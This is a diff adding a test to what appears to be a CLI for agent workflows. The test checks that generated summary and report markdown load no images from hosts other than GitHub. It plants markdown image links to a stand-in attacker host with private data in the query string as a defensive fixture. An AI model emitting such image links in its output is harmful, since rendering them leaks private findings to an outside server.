@@ -29,6 +29,7 @@ import { renderStageSummary } from '../../src/core/report/stage-summary.js';
 import type { RunEvent } from '../../src/core/workflow/events.js';
 import { CLI_PATH, ensureBuilt, REPO_ROOT } from '../support/build.js';
 import { withFileSizeLimit } from '../support/file-size-limit.js';
+import { images } from '../support/markdown-oracle.js';
 import { whereIn } from '../support/workflow-text.js';
 
 /**
@@ -351,6 +352,49 @@ describe('baton run: GitHub file commands', () => {
     expect(section('look', 'look')).toContain('### ✅ baton stage `look`');
     expect(section('split', 'split')).toContain('#### Summary\n\nsplit got: after look got: look');
     expect(section('broken', 'broken')).toContain('the agent exited with code 3');
+  });
+
+  it("loads no image of another host from summary.md or report.md: GitHub's rule, with github.com as the server", async () => {
+    const dir = project();
+    const elsewhere = 'https://attacker.example/p.png?d=private-finding';
+    const github = 'https://raw.githubusercontent.com/o/r/main/chart.png';
+    writeFileSync(
+      join(dir, 'handoff.json'),
+      JSON.stringify({
+        version: 1,
+        summary: `![chart](${elsewhere}) ![ok](${github})`,
+        detail: `![d](${elsewhere})`,
+      }),
+    );
+    writeFileSync(
+      join(dir, 'images.yml'),
+      [
+        'on: workflow_dispatch',
+        'jobs:',
+        '  look:',
+        '    runs-on: x',
+        '    steps:',
+        '      - uses: ./',
+        '        with: { prompt: look, run: cp handoff.json "$BATON_HANDOFF_PATH" }',
+        '  report:',
+        '    needs: look',
+        '    runs-on: x',
+        '    steps:',
+        '      - uses: ./report',
+        "        with: { mode: summary, include-detail: 'true' }",
+        '',
+      ].join('\n'),
+    );
+    const r = await run(dir, 'images.yml');
+    expect(r.jobs).toEqual({ look: 'success', report: 'success' });
+    const summary = readFileSync(join(r.runDir, 'summary.md'), 'utf8');
+    const report = readFileSync(join(r.runDir, 'report.md'), 'utf8');
+    for (const markdown of [summary, report]) {
+      expect(images(markdown).length).toBeGreaterThan(0);
+      expect(new Set(images(markdown))).toEqual(new Set([github]));
+      expect(markdown).toContain(`[image: chart](${elsewhere})`);
+    }
+    expect(report).toContain(`[image: d](${elsewhere})`);
   });
 
   it("leaves out a step summary over the runner's 1 MiB, with the runner's error, as GitHub does", () => {
